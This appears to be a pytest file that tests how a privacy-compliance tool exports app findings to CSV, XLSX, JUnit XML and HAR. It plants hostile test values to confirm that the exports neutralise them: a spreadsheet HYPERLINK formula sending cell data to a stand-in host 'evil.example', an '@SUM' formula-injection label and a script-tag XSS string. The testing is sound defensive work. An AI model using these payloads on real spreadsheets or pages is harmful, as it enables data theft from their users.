"""findings.csv, findings.xlsx, junit.xml and flows.har written next to the reports."""

from __future__ import annotations

import csv
import json
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from openpyxl import load_workbook

from harness.detect.engine import load_rules
from reports.render import render_catalog, render_run

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "reports"
RULES = len(load_rules())
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def out(tmp_path: Path) -> Path:
    for name in ("leaky_hostile", "clean", "broken", "unanalysed"):
        shutil.copytree(FIXTURES / name, tmp_path / name)
    return tmp_path


def _plant_formulas(run: Path) -> None:
    """Put spreadsheet formulas where an app controls the text: its label and a summary."""
    findings = json.loads((run / "findings.json").read_text(encoding="utf-8"))
    findings["verdicts"][0]["summary"] = FORMULA
    findings["app"]["label"] = "@SUM(1+1)\x00label"
    (run / "findings.json").write_text(json.dumps(findings), encoding="utf-8")


def _csv_rows(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the Chinese text as UTF-8
    return list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))


def test_run_csv_has_one_row_per_rule_and_defuses_formulas(out: Path) -> None:
    run = out / "leaky_hostile"
    _plant_formulas(run)
    render_run(run)
    rows = _csv_rows(run / "findings.csv")
    assert len(rows) == RULES
    first = rows[0]
    assert first["rule"] == "pi_access_before_consent" and first["status"] == "fail"
    assert first["summary"] == "'" + FORMULA
    assert first["app"] == "'@SUM(1+1)[U+0000]label"
    assert first["evidence_refs"].startswith("events.jsonl#0; events.jsonl#1")
    assert "认定方法 三.1" in first["clauses"]
    assert first["sdks"] == "com.umeng"


def test_run_xlsx_keeps_formulas_as_plain_text(out: Path) -> None:
    run = out / "leaky_hostile"
    _plant_formulas(run)
    render_run(run)
    book = load_workbook(run / "findings.xlsx")
    assert book.sheetnames == ["Findings", "Evidence", "Run problems"]
    findings = book["Findings"]
    header = [c.value for c in findings[1]]
    summary = findings.cell(row=2, column=header.index("summary") + 1)
    assert summary.value == FORMULA and summary.data_type == "s"
    assert findings.cell(row=2, column=1).value == "@SUM(1+1)[U+0000]label"
    assert findings.max_row == RULES + 1
    evidence = book["Evidence"]
    refs = [row[4] for row in evidence.iter_rows(min_row=2, values_only=True)]
    assert "flows.jsonl#0" in refs and "events.jsonl#25" in refs
    problems = [row[3] for row in book["Run problems"].iter_rows(min_row=2, values_only=True)]
    assert any("could not be decrypted" in str(p) for p in problems)


def test_junit_has_one_testcase_per_app_and_rule(out: Path) -> None:
    render_catalog(out)
    root = ET.parse(out / "junit.xml").getroot()
    suites = {s.get("name"): s for s in root.iter("testsuite")}
    assert set(suites) == {"com.ppdemo.leaky", "com.ppdemo.notes", "com.ppdemo.broken", "com.ppdemo.killed"}
    assert int(root.get("tests", "0")) == 4 * RULES
    for suite in suites.values():
        assert len(suite.findall("testcase")) == RULES
    leaky = suites["com.ppdemo.leaky"]
    verdicts = json.loads((FIXTURES / "leaky_hostile" / "findings.json").read_text(encoding="utf-8"))[
        "verdicts"
    ]
    not_tested = sum(v["status"] == "not_tested" for v in verdicts)
    assert (
        leaky.get("failures") == "4"
        and leaky.get("skipped") == str(not_tested)
        and leaky.get("errors") == "1"
    )
    failure = leaky.find("testcase[@name='pi_transmitted_before_consent']/failure")
    assert failure is not None and failure.get("type") == "high"
    assert "<script>alert(1)</script>" in (failure.get("message") or "")  # text, escaped by XML
    assert (
        suites["com.ppdemo.notes"].get("failures") == "0" and suites["com.ppdemo.notes"].get("errors") == "0"
    )
    killed = suites["com.ppdemo.killed"]
    assert killed.get("errors") == str(RULES)  # never analysed: every rule is an error, not a pass
    assert "run problem: The run never finished" in (killed.findtext("system-err") or "")
    broken = suites["com.ppdemo.broken"]
    broken_rules = {
        v["rule"]
        for v in json.loads((FIXTURES / "broken" / "findings.json").read_text(encoding="utf-8"))["verdicts"]
    }
    missing = RULES - len(broken_rules)
    assert broken.get("errors") == str(1 + missing)  # 1 inconclusive + the rules missing from findings.json


def test_catalog_exports_cover_every_app(out: Path) -> None:
    render_catalog(out)
    rows = _csv_rows(out / "findings.csv")
    assert len(rows) == 4 * RULES
    assert {r["package"] for r in rows} == {
        "com.ppdemo.leaky",
        "com.ppdemo.notes",
        "com.ppdemo.broken",
        "com.ppdemo.killed",
    }
    book = load_workbook(out / "findings.xlsx")
    assert book.sheetnames == ["Findings", "Evidence", "Run problems", "Matrix", "SDKs"]
    sdks = {row[0]: row for row in book["SDKs"].iter_rows(min_row=2, values_only=True)}
    assert sdks["com.umeng"][2] == 1 and "umeng.com" in str(sdks["com.umeng"][5])
    assert sdks["com.tencent.bugly"][3] == 1  # read before consent in one app


def test_har_is_written_from_flows_when_missing(out: Path) -> None:
    run = out / "leaky_hostile"
    assert not (run / "flows.har").exists()
    render_run(run)
    har = json.loads((run / "flows.har").read_text(encoding="utf-8"))
    assert har["log"]["entries"][0]["request"]["url"] == "https://ulogs.umeng.com/unify_logs"
    assert len(har["log"]["entries"]) == 4
